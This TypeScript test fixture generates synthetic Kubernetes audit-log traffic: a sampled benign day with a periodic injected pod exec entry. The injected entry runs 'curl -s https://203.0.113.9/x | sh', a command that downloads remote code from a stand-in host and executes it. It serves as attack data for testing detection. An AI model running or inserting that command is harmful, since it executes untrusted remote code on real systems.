import { auditEntry } from '../../../local/scenarios/audit-entry.ts';
import { benignDay } from '../../fixtures/benign/day.ts';

const ATTACK = ['create', 'get'] as const;

/** What people do in a day is the same, however much the machinery writes: a smaller day would be all people. */
const DAY = 10_000;

/**
 * Audit log entries as their JSON: from a benign day of the machinery and of people, evenly taken, and in each hundred an exec.
 */
export const traffic = (count: number): string[] => {
  const day = [...benignDay({ seed: 1, entries: Math.max(count, DAY) })];
  const entries = Array.from({ length: count }, (_, n) => day[Math.floor((n * day.length) / count)]);
  return entries.map((entry, n) =>
    JSON.stringify(
      n % 100 === 50
        ? auditEntry({
            verb: ATTACK[n % 2] ?? 'create',
            resource: 'pods',
            subresource: 'exec',
            namespace: 'shop',
            name: `cart-${n}`,
            command: 'sh -c "curl -s https://203.0.113.9/x | sh"',
          })
        : entry,
    ),
  );
};
